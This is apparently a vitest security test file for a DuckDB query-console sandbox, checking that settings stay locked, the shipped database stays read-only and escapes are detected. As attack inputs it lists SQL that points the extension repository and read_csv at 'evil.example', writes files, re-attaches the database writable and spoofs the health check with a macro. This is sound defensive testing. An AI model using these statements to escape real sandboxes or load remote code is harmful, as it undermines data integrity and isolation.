import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { readFileSync, rmSync } from 'node:fs';
import { openNodeConsoleSandbox } from '../../src/db/node';
import { toRows } from '../../src/db/arrow';
import type { ConsoleSandbox, Db } from '../../src/db/types';
import { SHIPPED_DB, shippedDb } from './db';
import { readCsv } from './csv';

// The console's sandbox against each attack class of issue 17. The guard is bypassed on purpose
// (statements go straight to the sandbox): the boundary must hold without it.

const LIMITS = { rows: 1000, bytes: 16 * 1024 * 1024 };
const fileHash = () => createHash('sha256').update(readFileSync(SHIPPED_DB)).digest('hex');

let app: Db;
let sb: ConsoleSandbox;
let before: Record<string, string>;
const hashAtStart = fileHash();

/** A digest of every shipped table as the app's connection sees it. */
async function appTables(): Promise<Record<string, string>> {
  const names = toRows<{ t: string }>(
    await app.query(`SELECT table_name AS t FROM duckdb_tables() WHERE database_name = 'cg' ORDER BY 1`),
  ).map((r) => r.t);
  const out: Record<string, string> = {};
  for (const t of names) {
    const [r] = toRows<{ n: number; h: string }>(
      await app.query(
        `SELECT count(*)::INTEGER AS n, md5(coalesce(string_agg(x::VARCHAR, '|' ORDER BY x::VARCHAR), '')) AS h FROM cg.main.${t} x`,
      ),
    );
    out[t] = `${r.n}:${r.h}`;
  }
  return out;
}

/** Run in the sandbox; an engine error is a fine outcome for an attack. */
async function attempt(...statements: string[]): Promise<string> {
  try {
    const out = await sb.run(statements, LIMITS);
    return `ok ${out.rows.length}`;
  } catch (e) {
    return `error ${(e as Error).message.split('\n')[0]}`;
  }
}

async function setting(name: string): Promise<string> {
  const out = await sb.run([`SELECT current_setting('${name}')::VARCHAR AS v`], LIMITS);
  return String(out.rows[0].v);
}

beforeAll(async () => {
  app = await shippedDb();
  sb = await openNodeConsoleSandbox(SHIPPED_DB);
  before = await appTables();
});
afterAll(async () => {
  await sb?.close();
  // Node's runtime (unlike the browser's) backs the writable re-attach's WAL with a real file in the cwd.
  rmSync('common-ground.duckdb.wal', { force: true });
});

describe('console sandbox: the app and the shipped data cannot change', () => {
  it('starts locked: external access off, no extension autoload/autoinstall, configuration locked, copy read-only', async () => {
    expect(await setting('enable_external_access')).toBe('false');
    expect(await setting('autoinstall_known_extensions')).toBe('false');
    expect(await setting('autoload_known_extensions')).toBe('false');
    expect(await setting('lock_configuration')).toBe('true');
    expect(await sb.healthy()).toBe(true);
    // the copy holds the shipped rows: 195 states in data/states/states.csv
    const out = await sb.run(['SELECT count(*)::INTEGER AS n FROM states'], LIMITS);
    expect(out.rows[0].n).toBe(readCsv('data/states/states.csv').length);
  });

  it('refuses settings changes, extension repositories and extension loads', async () => {
    for (const s of [
      "SET memory_limit = '4GB'",
      'SET enable_external_access = true',
      'RESET lock_configuration',
      'SET lock_configuration = false',
      "SET custom_extension_repository = 'http://evil.example/'",
      'SET autoinstall_known_extensions = true',
      "PRAGMA memory_limit = '4GB'",
      "SELECT * FROM read_csv('https://evil.example/x.csv')",
      "COPY (SELECT 1) TO 'x.csv'",
      'LOAD json',
    ])
      expect(await attempt(s), s).toMatch(/^error /);
    expect(await setting('enable_external_access')).toBe('false');
    expect(await setting('lock_configuration')).toBe('true');
    expect(await setting('custom_extension_repository')).not.toContain('evil');
  });

  it('cannot write the copy, even through EXPLAIN ANALYZE', async () => {
    expect(await attempt('EXPLAIN ANALYZE CREATE TABLE cg.main.pwned AS SELECT 1')).toMatch(/^error .*read-only/);
    expect(await attempt("DELETE FROM states WHERE iso3 = 'FRA'")).toMatch(/^error .*read-only/);
    expect(await attempt('CREATE OR REPLACE TABLE cg.main.states AS SELECT 1 AS x')).toMatch(/^error /);
  });

  it('shadowing tables lasts one run only (fresh connection per run)', async () => {
    const shadow = await sb.run(
      ['CREATE TEMP TABLE states AS SELECT 1 AS iso3', 'SELECT count(*)::INTEGER AS n FROM states'],
      LIMITS,
    );
    expect(shadow.rows[0].n).toBe(1);
    const next = await sb.run(['SELECT count(*)::INTEGER AS n FROM states'], LIMITS);
    expect(next.rows[0].n).toBe(195);
  });

  it('keeps a result to the row limit and a 50 MB cell to the byte limit', async () => {
    // (node's blocking engine builds the whole result first; the browser stops reading — see test/browser)
    const big = await sb.run(
      ['SELECT a.range AS a, b.range AS b FROM range(100) a CROSS JOIN range(100) b ORDER BY a, b'],
      LIMITS,
    );
    expect(big.rows.length).toBe(1000);
    expect(big.truncated).toBe('rows');
    expect(big.rows[999]).toEqual({ a: 9, b: 99 });
    const cell = await sb.run(["SELECT repeat('x', 50000000) AS v UNION ALL SELECT 'second'"], LIMITS);
    expect(cell.truncated).toBe('bytes');
    expect((cell.rows[0].v as string).length).toBe(50_000_000);
  });

  it('detaching or re-attaching the copy writable marks the sandbox unhealthy (the app replaces it)', async () => {
    const damaged = await openNodeConsoleSandbox(SHIPPED_DB);
    const r = await damaged.run(
      [
        'USE memory',
        'DETACH cg',
        "ATTACH 'common-ground.duckdb' AS cg",
        "DELETE FROM cg.main.states WHERE iso3 = 'FRA'",
        'SELECT count(*)::INTEGER AS n FROM cg.main.states',
      ],
      LIMITS,
    );
    // the copy inside that sandbox changed (194) …
    expect(r.rows[0].n).toBe(194);
    expect(await damaged.healthy()).toBe(false);
    // … even a macro named like the health check's catalogue function cannot hide it
    await damaged.run(
      ["CREATE MACRO memory.main.duckdb_databases() AS TABLE SELECT 'cg' AS database_name, true AS readonly"],
      LIMITS,
    );
    expect(await damaged.healthy()).toBe(false);
    await damaged.close();
  });

  it('afterwards the app connection answers and every shipped table and the file are unchanged', async () => {
    expect(await appTables()).toEqual(before);
    const [r] = toRows<{ n: number }>(await app.query("SELECT count(*)::INTEGER AS n FROM states WHERE iso3 = 'FRA'"));
    expect(r.n).toBe(1);
    expect(fileHash()).toBe(hashAtStart);
    expect(Object.keys(before).length).toBeGreaterThan(10);
  });
});
